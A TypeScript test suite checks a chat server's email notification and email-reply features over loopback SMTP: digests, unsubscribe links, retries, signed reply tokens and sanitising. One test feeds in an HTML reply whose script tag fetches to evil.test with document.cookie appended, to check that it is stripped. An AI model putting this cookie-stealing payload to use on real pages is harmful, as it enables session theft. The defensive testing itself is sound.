/**
 * Email continuity end to end on loopback, with real SMTP both ways: the server sends through a
 * relay the test runs (smtp-server), and replies go by nodemailer to the server's own inbound
 * listener or, as raw MIME, to `POST /v1/inbound/email`.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import nodemailer from 'nodemailer';
import MailComposer from 'nodemailer/lib/mail-composer/index.js';
import type Mail from 'nodemailer/lib/mailer/index.js';
import { io as ioClient } from 'socket.io-client';
import { API_KEY, connect, eventually, newId, send, startServer, type Harness, type Visitor } from '../test/harness.js';
import { freePort, startRelay, type Received, type Relay } from '../test/smtp.js';

const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAYAAABytg0kAAAAFElEQVR4nGP8z8DwnwEKmBiQAAAmOgICgbbCXQAAAABJRU5ErkJggg==',
  'base64',
);
const INBOUND = 'reply.shop.test';
const FROM = 'support@shop.test';

let relay: Relay;
let h: Harness;
let hooks: { server: http.Server; received: { event: string; data: any }[] };

/** A webhook receiver on loopback. */
async function startHooks() {
  const received: { event: string; data: any }[] = [];
  const server = http.createServer((req, res) => {
    let body = '';
    req.on('data', (c) => (body += c));
    req.on('end', () => {
      const parsed = JSON.parse(body);
      received.push({ event: parsed.type, data: parsed.data });
      res.writeHead(200).end();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  return { server, received, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/hook` };
}

/** The server's delay is long (a minute): tests make the waiting email job due now instead of sleeping. */
async function runDueNow() {
  await h.server.store.db.updateTable('jobs').set({ run_at: Date.now() - 1 }).where('kind', '=', 'notify.email').execute();
  h.server.jobs.wake();
}

async function pendingEmailJobs(): Promise<number> {
  const rows = await h.server.store.db.selectFrom('jobs').select('id').where('kind', '=', 'notify.email').execute();
  return rows.length;
}

/** Waits until no email job is waiting or running: every email due has reached the relay, or been decided against. */
async function settled() {
  await eventually(async () => (await pendingEmailJobs()) === 0, 10_000);
}

async function agentSays(threadId: string, text: string, attachments: string[] = []) {
  const res = await h.api('POST', `/v1/threads/${threadId}/messages`, { text, attachments, author: { kind: 'agent', name: 'Sam' } });
  expect(res.status).toBe(201);
  return res.body.message;
}

async function uploadAsApp(bytes: Buffer, name: string, type: string): Promise<string> {
  const form = new FormData();
  form.append('file', new Blob([bytes], { type }), name);
  const res = await fetch(`${h.url}/v1/uploads`, { method: 'POST', headers: { authorization: `Bearer ${API_KEY}` }, body: form });
  expect(res.status).toBe(201);
  return ((await res.json()) as any).attachment.id;
}

/** A visitor who started a thread, left an address, and went away. */
async function shopperWhoLeft(email = 'Alice@Example.COM'): Promise<{ threadId: string; visitor: Visitor; token: string }> {
  const v = await connect(h.url, { origin: 'http://shop.test' });
  const threadId = newId();
  expect((await send(v, threadId, 'Do you have this in M?', { create: true })).ok).toBe(true);
  const set = await v.call('notify.email.set', { email });
  expect(set).toEqual({ ok: true, email: email.replace(/@.*$/, (d) => d.toLowerCase()) });
  v.close();
  await eventually(async () => !(await isOnline(v.session.visitorId)));
  return { threadId, visitor: v, token: v.session.token };
}

async function isOnline(visitorId: string): Promise<boolean> {
  return (await h.api('GET', `/v1/visitors/${visitorId}`)).body.online === true;
}

async function messagesOf(threadId: string) {
  return (await h.api('GET', `/v1/threads/${threadId}/messages?limit=100`)).body.items as any[];
}

/** A header as written (unfolded), read from the raw message: mailparser restructures the List-* ones. */
function header(r: Received, name: string): string {
  const head = r.raw.toString('utf8').split(/\r?\n\r?\n/)[0]!.replace(/\r?\n[ \t]+/g, ' ');
  const line = head.split(/\r?\n/).find((l) => l.toLowerCase().startsWith(`${name.toLowerCase()}:`));
  return line ? line.slice(name.length + 1).trim() : '';
}

function replyAddressOf(r: Received): string {
  const to = r.mail.replyTo?.value[0]?.address;
  expect(to).toMatch(new RegExp(`^reply\\+[0-9a-f]{56}@${INBOUND.replace(/\./g, '\\.')}$`));
  return to!;
}

/** Raw MIME of a reply, as a mail client would write it. */
async function rawMail(options: Mail.Options): Promise<Buffer> {
  return new MailComposer(options).compile().build();
}

async function postInbound(raw: Buffer, apiKey: string = API_KEY) {
  const res = await fetch(`${h.url}/v1/inbound/email`, { method: 'POST', headers: { authorization: `Bearer ${apiKey}`, 'content-type': 'message/rfc822' }, body: raw });
  const text = await res.text();
  return { status: res.status, body: text ? JSON.parse(text) : null };
}

beforeAll(async () => {
  relay = await startRelay();
  hooks = await startHooks();
});
afterAll(async () => {
  await relay.close();
  await new Promise<void>((resolve) => hooks.server.close(() => resolve()));
});

describe('email notifications: outbound digest', () => {
  beforeEach(async () => {
    relay.received.length = 0;
    hooks.received.length = 0;
    h = await startServer({
      notifications: { smtpUrl: relay.url, from: FROM, delayMs: 60_000, inboundDomain: INBOUND, publicUrl: undefined },
    });
    const hook = await h.api('POST', '/v1/webhooks', { url: `http://127.0.0.1:${(hooks.server.address() as AddressInfo).port}/hook`, events: ['notification.sent', 'notification.failed'] });
    expect(hook.status).toBe(201);
  });
  afterEach(async () => {
    await h.close();
  });

  it('emails a message with blocks as its text with the cards\' details and links under it, through a real SMTP exchange', async () => {
    const { threadId } = await shopperWhoLeft();
    const res = await h.api('POST', `/v1/threads/${threadId}/messages`, {
      text: 'Your order A-1001 is on its way.',
      author: { kind: 'bot', name: 'Order bot' },
      blocks: [
        { type: 'card', title: 'Order A-1001', fields: [{ label: 'Status', value: 'Arrives Fri 4 Dec' }], buttons: [{ type: 'url', label: 'Track', url: 'https://carrier.example/t/123' }, { type: 'reply', label: 'REPLY-ONLY-IN-CHAT', value: 'x' }] },
      ],
    });
    expect(res.status).toBe(201);
    await runDueNow();
    await settled();
    const [email] = relay.received as [Received];
    expect(email.mail.text).toContain(['Your order A-1001 is on its way.', 'Order A-1001', 'Status: Arrives Fri 4 Dec', 'Track: <https://carrier.example/t/123>'].join('\n'));
    expect(email.mail.html).toContain('<a href="https://carrier.example/t/123">Track</a>');
    // A reply button only works in the chat.
    for (const part of [email.mail.text, email.mail.html]) expect(part).not.toContain('REPLY-ONLY-IN-CHAT');
  });

  it('sends one digest of the unread agent messages, as text and escaped HTML, with reply, threading and unsubscribe headers', async () => {
    const { threadId } = await shopperWhoLeft();
    const fileId = await uploadAsApp(PNG, 'size-chart.png', 'image/png');
    await agentSays(threadId, 'Yes, M is in stock <b>today</b> & tomorrow.');
    await agentSays(threadId, 'Here is the size chart.', [fileId]);
    // Not before the delay: the job waits a minute.
    const job = await h.server.store.db.selectFrom('jobs').selectAll().where('kind', '=', 'notify.email').executeTakeFirstOrThrow();
    expect(Number(job.run_at)).toBeGreaterThan(Date.now() + 30_000);
    expect(relay.received).toHaveLength(0);

    await runDueNow();
    await settled();
    expect(relay.received).toHaveLength(1);
    const [email] = relay.received as [Received];
    expect(email.envelope.to).toEqual(['Alice@example.com']);
    expect(email.mail.from?.value[0]).toEqual({ name: 'Demo shop', address: FROM });
    expect(email.mail.subject).toBe('2 new messages from Demo shop');
    expect(email.mail.text).toContain('Yes, M is in stock <b>today</b> & tomorrow.');
    expect(email.mail.text).toContain('Here is the size chart.');
    expect(email.mail.html).toContain('Yes, M is in stock &lt;b&gt;today&lt;/b&gt; &amp; tomorrow.');
    expect(email.mail.html).not.toContain('<b>today');
    expect(header(email, 'content-type')).toContain('multipart/alternative');
    expect(email.mail.messageId).toMatch(/^<[0-9a-f-]{36}@shop\.test>$/);
    replyAddressOf(email);
    expect(header(email, 'list-unsubscribe-post')).toBe('List-Unsubscribe=One-Click');
    expect(header(email, 'auto-submitted')).toBe('auto-generated');

    // The image's link works without a session, and only as signed.
    const link = /<(http:\/\/[^>]+\/v1\/files\/[^>]+)>/.exec(email.mail.text!)![1]!;
    expect(link).toContain(fileId);
    const file = await fetch(link);
    expect(file.status).toBe(200);
    expect(Buffer.from(await file.arrayBuffer()).equals(PNG)).toBe(true);
    expect((await fetch(link.replace(/sig=([0-9a-f])/, (_m, c: string) => `sig=${c === '0' ? '1' : '0'}`))).status).toBe(404);
    expect((await fetch(link.replace(/exp=\d+/, `exp=${Date.now() + 999_999_999}`))).status).toBe(404);

    // The webhook tells the brand.
    await eventually(() => hooks.received.find((r) => r.event === 'notification.sent'));
    expect(hooks.received.find((r) => r.event === 'notification.sent')!.data).toMatchObject({ threadId, email: 'Alice@example.com', fromSeq: 0, toSeq: 3 });

    // The next email of the thread carries only the new message, threaded under the first.
    await agentSays(threadId, 'Anything else?');
    await runDueNow();
    await settled();
    expect(relay.received).toHaveLength(2);
    const second = relay.received[1]!;
    expect(second.mail.subject).toBe('New message from Demo shop');
    expect(second.mail.text).toContain('Anything else?');
    expect(second.mail.text).not.toContain('size chart');
    expect(second.mail.inReplyTo).toBe(email.mail.messageId);
    expect(second.mail.references).toEqual(email.mail.messageId);
  });

  it('one-click unsubscribe (List-Unsubscribe-Post) stops the next email; the GET page only asks', async () => {
    const { threadId } = await shopperWhoLeft();
    await agentSays(threadId, 'First answer');
    await runDueNow();
    await settled();
    expect(relay.received).toHaveLength(1);
    const url = /<(http[^>]+)>/.exec(header(relay.received[0]!, 'list-unsubscribe'))![1]!;

    const page = await fetch(url);
    expect(page.status).toBe(200);
    expect(await page.text()).toContain('<form method="post"');

    const done = await fetch(url, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'List-Unsubscribe=One-Click' });
    expect(done.status).toBe(200);
    await agentSays(threadId, 'Second answer');
    await runDueNow();
    await settled();
    expect(relay.received).toHaveLength(1);
    // A tampered link unsubscribes nothing.
    expect((await fetch(url.replace(/sig=[0-9a-f]+/, 'sig=00'), { method: 'POST' })).status).toBe(404);
  });

  it('the per-thread link stops that thread only', async () => {
    const a = await shopperWhoLeft('a@shop-customer.test');
    const b = await shopperWhoLeft('b@shop-customer.test');
    await agentSays(a.threadId, 'To A');
    await agentSays(b.threadId, 'To B');
    await runDueNow();
    await settled();
    expect(relay.received).toHaveLength(2);
    const toA = relay.received.find((r) => r.envelope.to[0] === 'a@shop-customer.test')!;
    const threadLink = /(http:\/\/\S+scope=thread\S+)/.exec(toA.mail.text!)![1]!.replace(/>$/, '');
    expect((await fetch(threadLink, { method: 'POST' })).status).toBe(200);
    await agentSays(a.threadId, 'To A again');
    await agentSays(b.threadId, 'To B again');
    await runDueNow();
    await settled();
    expect(relay.received.map((r) => r.envelope.to[0])).toEqual(expect.arrayContaining(['a@shop-customer.test', 'b@shop-customer.test', 'b@shop-customer.test']));
    expect(relay.received).toHaveLength(3);
  });

  it('sends nothing while the visitor is connected, and nothing once the messages are read', async () => {
    const v = await connect(h.url, { origin: 'http://shop.test' });
    const threadId = newId();
    await send(v, threadId, 'Hello', { create: true });
    await v.call('notify.email.set', { email: 'reader@shop-customer.test' });
    const m = await agentSays(threadId, 'Hi there');
    await runDueNow();
    // Online: the job waits another delay instead of sending.
    await eventually(async () => {
      const job = await h.server.store.db.selectFrom('jobs').selectAll().where('kind', '=', 'notify.email').executeTakeFirst();
      return job && Number(job.run_at) > Date.now() + 30_000;
    });
    expect(relay.received).toHaveLength(0);
    expect((await v.call('thread.read', { threadId, seq: m.seq })).ok).toBe(true);
    v.close();
    await runDueNow();
    await settled();
    expect(relay.received).toHaveLength(0);
  });

  it('identified users get emails at their identify address only when the app opts in', async () => {
    const { userHashOf } = await import('../auth/identity.js');
    const { SECRET } = await import('../test/harness.js');
    const userId = 'user-42';
    const start = async () => {
      const v = await connect(h.url, { origin: 'http://shop.test', userId, userHash: userHashOf(SECRET, userId), email: 'user42@shop-customer.test' });
      const threadId = newId();
      await send(v, threadId, 'Where is my order?', { create: true });
      v.close();
      await eventually(async () => !(await isOnline(v.session.visitorId)));
      return threadId;
    };
    const first = await start();
    await agentSays(first, 'Checking');
    await runDueNow();
    await settled();
    expect(relay.received).toHaveLength(0);

    expect((await h.api('PUT', '/v1/notifications/settings', { identifiedUsers: true })).body).toEqual({ identifiedUsers: true });
    const second = await start();
    await agentSays(second, 'Shipped today');
    await runDueNow();
    await settled();
    expect(relay.received.map((r) => r.envelope.to[0])).toEqual(['user42@shop-customer.test']);
  });

  it('retries after a temporary SMTP error (4xx), and gives up on a permanent one (5xx) with notification.failed', async () => {
    const { threadId } = await shopperWhoLeft('retry@shop-customer.test');
    relay.refuse(451);
    await agentSays(threadId, 'Temporary trouble');
    await runDueNow();
    await settled();
    expect(relay.received).toHaveLength(1);
    expect(relay.received[0]!.mail.text).toContain('Temporary trouble');

    relay.refuse(550);
    await agentSays(threadId, 'Refused for good');
    await runDueNow();
    await settled();
    expect(relay.received).toHaveLength(1);
    const failed = await eventually(() => hooks.received.find((r) => r.event === 'notification.failed'));
    expect(failed.data).toMatchObject({ threadId, email: 'retry@shop-customer.test' });
    expect(failed.data.error).toContain('550');
    const rows = await h.server.store.db.selectFrom('email_notifications').select(['status']).where('thread_id', '=', threadId).orderBy('created_at').execute();
    expect(rows.map((r) => r.status)).toEqual(['sent', 'failed']);
  });

  it('notify.email.set validates, removes with null, and the session reports the address', async () => {
    const v = await connect(h.url, { origin: 'http://shop.test' });
    expect(v.session.notifyEmail).toBeNull();
    const bad = await v.call('notify.email.set', { email: 'not an address' });
    expect(bad).toMatchObject({ ok: false, error: { code: 'email_invalid' } });
    expect(await v.call('notify.email.set', { email: 'x@shop-customer.test' })).toEqual({ ok: true, email: 'x@shop-customer.test' });
    v.close();
    const again = await connect(h.url, { origin: 'http://shop.test', token: v.session.token });
    expect(again.session.notifyEmail).toBe('x@shop-customer.test');
    expect(await again.call('notify.email.set', { email: null })).toEqual({ ok: true, email: null });
    again.close();
  });
});

describe('email notifications: off without SMTP', () => {
  it('notify.email.set answers notifications_off and the session has no notifyEmail', async () => {
    h = await startServer();
    try {
      const v = await connect(h.url, { origin: 'http://shop.test' });
      expect('notifyEmail' in v.session).toBe(false);
      expect(await v.call('notify.email.set', { email: 'a@b.test' })).toMatchObject({ ok: false, error: { code: 'notifications_off' } });
      v.close();
    } finally {
      await h.close();
    }
  });
});

describe('email notifications: replies by email', () => {
  let smtpPort = 0;
  beforeEach(async () => {
    relay.received.length = 0;
    smtpPort = await freePort();
    h = await startServer({
      maxUploadBytes: 64 * 1024,
      notifications: { smtpUrl: relay.url, from: FROM, delayMs: 60_000, inboundDomain: INBOUND, inboundPort: smtpPort, maxInboundBytes: 200 * 1024 },
    });
    expect(h.server.smtpPort).toBe(smtpPort);
  });
  afterEach(async () => {
    await h.close();
  });

  /** A thread whose shopper got one email; returns its reply address and Message-ID. */
  async function emailed(email = 'alice@shop-customer.test') {
    const before = relay.received.length;
    const shopper = await shopperWhoLeft(email);
    await agentSays(shopper.threadId, 'Your parcel left today.');
    await runDueNow();
    await settled();
    expect(relay.received).toHaveLength(before + 1);
    const r = relay.received[before]!;
    return { ...shopper, replyTo: replyAddressOf(r), messageId: r.mail.messageId! };
  }

  function smtpClient() {
    return nodemailer.createTransport({ host: '127.0.0.1', port: smtpPort, secure: false, ignoreTLS: true });
  }

  it('a reply sent over SMTP lands in the thread as the visitor’s message, quotes and signature stripped, live to the agent', async () => {
    const { threadId, replyTo, messageId } = await emailed();
    const agent = ioClient(`${h.url}/agent`, { auth: { apiKey: API_KEY }, transports: ['websocket'], reconnection: false, forceNew: true });
    await new Promise<void>((resolve) => agent.once('connect', () => resolve()));
    const live = new Promise<any>((resolve) => agent.on('message', (e: any) => e.message.author.kind === 'visitor' && resolve(e)));
    try {
      await smtpClient().sendMail({
        from: 'Alice <alice@shop-customer.test>',
        to: replyTo,
        subject: 'Re: New message from Demo shop',
        inReplyTo: messageId,
        references: [messageId],
        text: 'Great, thank you!\n\n-- \nAlice\n\nOn Tue, 3 Mar 2026 at 10:00, Demo shop <support@shop.test> wrote:\n> Your parcel left today.\n',
        attachments: [
          { filename: 'receipt.png', content: PNG, contentType: 'image/png' },
          { filename: 'notes.html', content: '<script>alert(1)</script>', contentType: 'text/html' },
        ],
      });
      const event = await live;
      expect(event.message.text).toBe('Great, thank you!');
      expect(event.message.meta).toMatchObject({ via: 'email', droppedAttachments: [{ name: 'notes.html', reason: 'unsupported_media_type' }] });
      expect(event.message.attachments).toMatchObject([{ name: 'receipt.png', mime: 'image/png' }]);
      const msgs = await messagesOf(threadId);
      expect(msgs.map((m) => [m.author.kind, m.text])).toEqual([
        ['visitor', 'Do you have this in M?'],
        ['agent', 'Your parcel left today.'],
        ['visitor', 'Great, thank you!'],
      ]);
      // Reading the email counts as reading what it carried.
      const row = await h.server.store.getThread(threadId);
      expect(Number(row!.visitor_read_seq)).toBe(2);
    } finally {
      agent.close();
    }
  });

  it('a Chinese mail client’s quoted history (在…写道：) is stripped too', async () => {
    const { threadId, replyTo } = await emailed();
    await smtpClient().sendMail({
      from: 'alice@shop-customer.test',
      to: replyTo,
      subject: '回复：新消息',
      text: '好的，谢谢！\n\n在 2026年3月3日 星期二 10:00，Demo shop <support@shop.test> 写道：\n> Your parcel left today.\n',
    });
    await eventually(async () => (await messagesOf(threadId)).length === 3);
    expect((await messagesOf(threadId))[2].text).toBe('好的，谢谢！');
  });

  it('the same email delivered twice lands once', async () => {
    const { threadId, replyTo } = await emailed();
    const raw = await rawMail({ from: 'alice@shop-customer.test', to: replyTo, subject: 'Re', text: 'Only once', messageId: '<same-reply@shop-customer.test>' });
    expect((await postInbound(raw)).status).toBe(201);
    const again = await postInbound(raw);
    expect(again.status).toBe(200);
    expect(again.body.outcome).toBe('duplicate');
    await smtpClient().sendMail({ envelope: { from: 'alice@shop-customer.test', to: [replyTo] }, raw });
    expect((await messagesOf(threadId)).filter((m) => m.text === 'Only once')).toHaveLength(1);
  });

  it('an HTML-only reply is converted to text: no markup, no script, no quoted blockquote', async () => {
    const { threadId, replyTo } = await emailed();
    const raw = await rawMail({
      from: 'alice@shop-customer.test',
      to: replyTo,
      subject: 'Re',
      html: '<p>Sounds <b>good</b></p><script>fetch("https://evil.test/"+document.cookie)</script><img src="https://evil.test/p.png" onerror="alert(1)"><blockquote>Your parcel left today.</blockquote>',
    });
    expect((await postInbound(raw)).status).toBe(201);
    const last = (await messagesOf(threadId)).at(-1);
    expect(last.text).toBe('Sounds good');
    expect(last.meta).toEqual({ via: 'email' });
  });

  it('refuses forged, expired, foreign and misdirected tokens; nothing lands', async () => {
    const a = await emailed('a@shop-customer.test');
    const b = await emailed('b@shop-customer.test');
    const count = async () => (await messagesOf(a.threadId)).length + (await messagesOf(b.threadId)).length;
    const before = await count();
    const reply = (to: string, from = 'a@shop-customer.test') => rawMail({ from, to, subject: 'Re', text: 'Let me in' });

    // Forged: a signature changed by one character.
    const forged = a.replyTo.replace(/([0-9a-f])@/, (_m, c: string) => `${c === '0' ? '1' : '0'}@`);
    expect(await postInbound(await reply(forged))).toMatchObject({ status: 403, body: { error: { code: 'reply_token_invalid' } } });
    // Another thread's token, used from this thread's address.
    expect((await postInbound(await reply(b.replyTo))).status).toBe(403);
    // Over SMTP, the same refusal is a 5xx: the sender hears of it.
    await expect(smtpClient().sendMail({ from: 'a@shop-customer.test', to: forged, subject: 'Re', text: 'Let me in' })).rejects.toMatchObject({ responseCode: 550 });
    // Not a reply address at all: refused at RCPT TO.
    await expect(smtpClient().sendMail({ from: 'a@shop-customer.test', to: `sales@${INBOUND}`, subject: 'Hi', text: 'x' })).rejects.toMatchObject({ responseCode: 550 });
    // Another app's API key.
    await h.server.store.createAppIfAbsent({ id: 'other', name: 'Other shop', apiKey: 'tl_sk_other', secret: 's', allowedOrigins: [] });
    expect((await postInbound(await reply(a.replyTo), 'tl_sk_other')).status).toBe(403);
    // Expired.
    await h.server.store.db.updateTable('email_notifications').set({ created_at: 1 }).where('thread_id', '=', a.threadId).execute();
    expect((await postInbound(await reply(a.replyTo))).status).toBe(403);
    expect(await count()).toBe(before);

    // B's own reply with B's token lands in B only.
    expect((await postInbound(await reply(b.replyTo, 'b@shop-customer.test'))).status).toBe(201);
    expect((await messagesOf(b.threadId)).at(-1).text).toBe('Let me in');
    expect(await count()).toBe(before + 1);
  });

  it('a reply from an address the visitor removed is refused', async () => {
    const { replyTo, threadId, token } = await emailed();
    const v = await connect(h.url, { origin: 'http://shop.test', token });
    expect(await v.call('notify.email.set', { email: null })).toEqual({ ok: true, email: null });
    v.close();
    expect((await postInbound(await rawMail({ from: 'alice@shop-customer.test', to: replyTo, subject: 'Re', text: 'Late reply' }))).status).toBe(403);
    expect((await messagesOf(threadId)).some((m) => m.text === 'Late reply')).toBe(false);
  });

  it('ignores bounces and auto-replies with a log line, over HTTP and SMTP', async () => {
    const { threadId, replyTo } = await emailed();
    const bounce = await rawMail({ from: 'MAILER-DAEMON@mx.shop-customer.test', to: replyTo, subject: 'Undelivered Mail Returned to Sender', text: 'This is the mail system.' });
    expect(await postInbound(bounce)).toMatchObject({ status: 200, body: { outcome: 'ignored', reason: 'bounce' } });
    const vacation = await rawMail({ from: 'alice@shop-customer.test', to: replyTo, subject: 'Out of office', text: 'I am away.', headers: { 'Auto-Submitted': 'auto-replied' } });
    expect(await postInbound(vacation)).toMatchObject({ status: 200, body: { outcome: 'ignored', reason: 'auto-reply' } });
    // Over SMTP with the null sender of a delivery status notification.
    await smtpClient().sendMail({ envelope: { from: '', to: [replyTo] }, raw: await rawMail({ from: 'alice@shop-customer.test', to: replyTo, subject: 'DSN', text: 'bounce' }) });
    expect((await messagesOf(threadId)).map((m) => m.text)).toEqual(['Do you have this in M?', 'Your parcel left today.']);
  });

  it('refuses oversized and malformed mail', async () => {
    const { threadId, replyTo } = await emailed();
    const big = await rawMail({ from: 'alice@shop-customer.test', to: replyTo, subject: 'Re', text: 'x'.repeat(300 * 1024) });
    expect(await postInbound(big)).toMatchObject({ status: 413, body: { error: { code: 'payload_too_large' } } });
    await expect(smtpClient().sendMail({ envelope: { from: 'alice@shop-customer.test', to: [replyTo] }, raw: big })).rejects.toMatchObject({ responseCode: 552 });
    const garbage = Buffer.from([0x00, 0x01, 0xff, 0xfe, 0x13, 0x37, 0x0a, 0x0a, 0x00]);
    expect(await postInbound(garbage)).toMatchObject({ status: 400, body: { error: { code: 'bad_request' } } });
    expect((await postInbound(Buffer.from('From: \r\nSubject: nothing\r\n\r\nbody'))).status).toBe(400);
    expect(await messagesOf(threadId)).toHaveLength(2);
  });
});
